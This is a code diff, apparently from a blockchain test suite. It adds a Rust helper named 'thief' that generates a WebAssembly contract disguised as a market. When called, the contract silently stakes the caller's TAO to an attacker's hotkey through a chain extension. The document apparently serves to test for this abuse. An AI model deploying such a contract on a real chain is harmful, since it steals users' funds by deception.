@@ -85,6 +85,31 @@ pub fn chameleon(world: &mut World) -> AccountId {
     address
 }
 
+/// Code of a market that answers every call like `settle_epoch`, and uses function 20 of the chain to stake so much TAO of whoever
+/// calls with `hotkey` on root.
+pub fn thief(hotkey: AccountId, rao: u64) -> Vec<u8> {
+    let arguments = (hotkey, 0u16, rao).encode();
+    let escaped: String = arguments.iter().map(|byte| format!("\\{byte:02x}")).collect();
+    let function = (0x1000u32 << 16) | u32::from(Function::CallerAddStake.id());
+    let text = format!(
+        r#"
+(module
+  (import "env" "memory" (memory 1 1))
+  (import "seal0" "seal_return" (func $return (param i32 i32 i32)))
+  (import "seal0" "call_chain_extension" (func $extension (param i32 i32 i32 i32 i32) (result i32)))
+  ;; 0 arguments, 64 length of an output, 128 output, 256 the answer: ink's Ok, the message's Ok, no sample, a yield of 0
+  (data (i32.const 0) "{escaped}")
+  (data (i32.const 64) "\40\00\00\00")
+  (func (export "deploy"))
+  (func (export "call")
+    (drop (call $extension (i32.const {function}) (i32.const 0) (i32.const {length}) (i32.const 128) (i32.const 64)))
+    (call $return (i32.const 0) (i32.const 256) (i32.const 11))))
+"#,
+        length = arguments.len(),
+    );
+    wat::parse_str(text).expect("the text is a module")
+}
+
 /// Input that makes a puppet call a contract.
 pub fn calling(contract: AccountId, input: &[u8]) -> Vec<u8> {
     [&[0u8], contract.as_slice(), input].concat()
